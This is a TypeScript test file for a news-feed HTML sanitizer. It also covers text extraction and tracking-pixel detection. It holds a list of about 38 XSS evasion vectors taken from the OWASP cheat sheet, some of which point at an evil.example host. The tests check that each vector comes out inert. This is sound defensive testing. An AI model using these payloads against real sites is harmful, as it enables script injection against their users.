import { Parser } from 'htmlparser2';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { ALLOWED_TAGS, cleanHtml, htmlToText, isTrackingPixel, sanitizeArticleHtml } from '../../src/ingest/sanitize.js';

const BASE = 'https://news.example.com/markets/story.html';
const clean = (html: string) => sanitizeArticleHtml(html, BASE);

/** sanitize-html with our allow-list: a second, independent opinion on every output. */
function oracle(html: string): string {
  return sanitizeHtml(html, {
    allowedTags: Object.keys(ALLOWED_TAGS),
    allowedAttributes: Object.fromEntries(Object.entries(ALLOWED_TAGS).map(([t, a]) => [t, [...a]])),
    allowedSchemes: ['http', 'https', 'mailto'],
    allowedSchemesByTag: { img: ['http', 'https'] },
    allowProtocolRelative: false,
    disallowedTagsMode: 'discard',
  });
}

/** Whatever got through must be inert: no handler, no script-capable URL, no active element. */
function expectInert(out: string): void {
  const seen: { tag: string; attribs: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (tag, attribs) => void seen.push({ tag, attribs }) }, { decodeEntities: true });
  parser.write(out);
  parser.end();
  for (const { tag, attribs } of seen) {
    expect(Object.keys(ALLOWED_TAGS)).toContain(tag);
    for (const [name, value] of Object.entries(attribs)) {
      expect(name).not.toMatch(/^on/i);
      expect(ALLOWED_TAGS[tag]).toContain(name);
      if (name === 'href' || name === 'src') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
  expect(out).not.toMatch(/(javascript|vbscript|data)\s*:/i);
  // sanitize-html with the same allow-list finds nothing left to remove.
  expect(oracle(out)).toBe(out);
}

// OWASP XSS filter evasion cheat sheet, adapted to what a feed or page can carry.
const VECTORS: [string, string][] = [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  [
    'img onerror with entities',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  ],
  ['tab-split javascript href', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['newline-split javascript href', '<a href="jav\nascript:alert(1)">x</a>'],
  ['entity-encoded javascript href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A">x</a>'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['leading control characters', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['mixed case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ['svg onload', '<svg onload=alert(1)><circle r="4"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['math href', '<math href="javascript:alert(1)"><mtext>x</mtext></math>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['style tag', '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['form', '<form action="https://evil.example/login"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>'],
  ['script', '<script>alert(1)</script>'],
  ['split script', '<scr<script>ipt>alert(1)</script>'],
  ['unclosed script', '<script src=https://evil.example/x.js'],
  ['body onload', '<body onload=alert(1)>x</body>'],
  ['event handler on allowed tag', '<p onclick="alert(1)" onmouseover="alert(2)">x</p>'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['img srcset', '<img src="/a.png" srcset="javascript:alert(1) 2x">'],
  ['comment hiding a tag', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['attribute breaking quotes', '<a href="https://ok.example/" title="x&quot; onmouseover=&quot;alert(1)">x</a>'],
  ['protocol-relative to javascript', '<a href="//javascript:alert(1)">x</a>'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
];

describe('sanitizeArticleHtml against XSS vectors', () => {
  it.each(VECTORS)('%s', (_name, vector) => {
    expectInert(clean(vector));
  });

  it('(the inertness check itself rejects live markup)', () => {
    expect(() => expectInert('<img src="https://a.example/x" onerror="alert(1)">')).toThrow();
    expect(() => expectInert('<a href="javascript:alert(1)">x</a>')).toThrow();
    expect(() => expectInert('<iframe src="https://a.example/"></iframe>')).toThrow();
  });

  it('drops script, style, frame and form content, not just the tags', () => {
    const out = clean('<p>keep</p><script>var secret=1</script><style>.x{}</style><form>Sign up now</form><svg><text>svg text</text></svg>');
    expect(out).toBe('<p>keep</p>');
  });

  it('removes 1×1 and hidden images and known pixel hosts, keeps real images', () => {
    const out = clean(
      '<img src="/pixel.gif" width="1" height="1"><img src="/z.gif" width="0"><img src="/s.gif" style="width:1px;height:1px">' +
        '<img src="/h.gif" style="display:none"><img src="https://pixel.wp.com/g.gif?v=1"><img src="https://www.google-analytics.com/collect?x">' +
        '<img src="https://feeds.feedburner.com/~r/x/~4/abc"><img src="https://hm.baidu.com/hm.gif?si=1">' +
        '<img src="chart.png" alt="Cotton prices" width="640" height="360">',
    );
    expect(out).toBe('<img src="https://news.example.com/markets/chart.png" alt="Cotton prices" width="640" height="360" />');
  });

  it('resolves relative URLs against the document and marks links', () => {
    const out = clean(
      '<p><a href="../a/b?x=1&amp;y=2">rel</a> <a href="https://other.example/">abs</a> <a href="mailto:desk@news.example.com">mail</a> <a>bare</a></p>',
    );
    expect(out).toBe(
      '<p><a href="https://news.example.com/a/b?x=1&amp;y=2" rel="noopener noreferrer nofollow">rel</a> ' +
        '<a href="https://other.example/" rel="noopener noreferrer nofollow">abs</a> ' +
        '<a href="mailto:desk@news.example.com" rel="noopener noreferrer nofollow">mail</a> bare</p>',
    );
  });

  it('keeps reading markup and drops everything else but its text', () => {
    const input =
      '<article><h2 class="t">Head</h2><p>One <em>two</em> <strong>three</strong><br>four</p><blockquote>q</blockquote>' +
      '<ul><li>a</li></ul><ol><li>b</li></ol><pre><code>x &lt; y</code></pre><figure><img src="/f.jpg"><figcaption>cap</figcaption></figure>' +
      '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="x">c</td></tr></tbody></table><div><span>span</span></div></article>';
    const out = clean(input);
    expect(out).toBe(
      '<h2>Head</h2><p>One <em>two</em> <strong>three</strong><br />four</p><blockquote>q</blockquote>' +
        '<ul><li>a</li></ul><ol><li>b</li></ol><pre><code>x &lt; y</code></pre><figure><img src="https://news.example.com/f.jpg" /><figcaption>cap</figcaption></figure>' +
        '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>span',
    );
    expect(oracle(out)).toBe(out);
  });

  it('drops links and images it cannot make absolute http(s) (no base on the web)', () => {
    expect(sanitizeArticleHtml('<a href="rel.html">t</a><img src="i.png">', 'file:///data/feed.xml')).toBe('t');
  });
});

describe('cleanHtml text', () => {
  it('separates blocks with blank lines, keeps line breaks, leaves out link URLs and hidden text', () => {
    const { text } = cleanHtml(
      '<h2>Cotton\n  rises</h2><p>Futures rose <a href="https://x.example/long/url">sharply</a>\non Thursday.</p><p>Line one<br>line two</p>' +
        '<ul><li>first</li><li>second</li></ul><script>hidden()</script><table><tr><td>a</td><td>b</td></tr></table>',
      BASE,
    );
    expect(text).toBe('Cotton rises\n\nFutures rose sharply on Thursday.\n\nLine one\nline two\n\nfirst\nsecond\n\na b');
  });

  it('decodes entities, NFC-normalizes and strips invisible characters', () => {
    expect(htmlToText('<p>Caf&eacute; e\u0301 &amp; co\u200b&nbsp;&nbsp;ltd</p>')).toBe('Café é & co ltd');
  });

  it('keeps preformatted line breaks', () => {
    expect(htmlToText('<p>a</p><pre>x = 1\ny = 2</pre>')).toBe('a\n\nx = 1\ny = 2');
  });
});

describe('isTrackingPixel', () => {
  it('judges by size, visibility and host', () => {
    expect(isTrackingPixel({ width: '1', height: '1' }, 'https://a.example/x.gif')).toBe(true);
    expect(isTrackingPixel({ width: '1px' }, 'https://a.example/x.gif')).toBe(true);
    expect(isTrackingPixel({ style: 'visibility: hidden' }, 'https://a.example/x.gif')).toBe(true);
    expect(isTrackingPixel({}, 'https://stats.wordpress.com/b.gif')).toBe(true);
    expect(isTrackingPixel({}, 'https://a.example/piwik.php?idsite=1')).toBe(true);
    expect(isTrackingPixel({ width: '300', height: '200' }, 'https://a.example/photo.jpg')).toBe(false);
    expect(isTrackingPixel({}, 'https://cdn.example/photo.jpg')).toBe(false);
  });
});
